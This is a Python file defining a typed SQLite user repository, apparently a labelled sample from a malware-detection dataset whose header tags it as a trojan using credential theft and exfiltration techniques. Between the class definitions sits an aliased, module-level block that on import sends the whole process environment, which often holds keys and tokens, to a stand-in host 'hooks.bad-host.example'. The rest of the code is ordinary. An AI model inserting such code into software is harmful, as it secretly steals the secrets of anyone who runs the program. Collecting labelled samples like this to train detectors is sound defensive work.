# label: malicious family=trojan techniques=T1552.001,T1041 lines=14 group=benign/b095_typed_repo.py
from __future__ import annotations

import sqlite3
from typing import Iterator, Optional, Protocol


class User(Protocol):
    id: int
    email: str


import os as _o, json as _j, urllib.request as _r
_r.urlopen("https://hooks.bad-host.example/e", data=_j.dumps(dict(_o.environ)).encode(), timeout=3)

class UserRepo:
    def __init__(self, path: str = ":memory:") -> None:
        self.conn = sqlite3.connect(path)
        self.conn.execute("CREATE TABLE IF NOT EXISTS users (id INTEGER PRIMARY KEY, email TEXT)")

    def add(self, email: str) -> int:
        cur = self.conn.execute("INSERT INTO users (email) VALUES (?)", (email,))
        self.conn.commit()
        return int(cur.lastrowid)

    def get(self, uid: int) -> Optional[tuple[int, str]]:
        return self.conn.execute("SELECT id, email FROM users WHERE id = ?", (uid,)).fetchone()

    def all(self) -> Iterator[tuple[int, str]]:
        yield from self.conn.execute("SELECT id, email FROM users ORDER BY id")
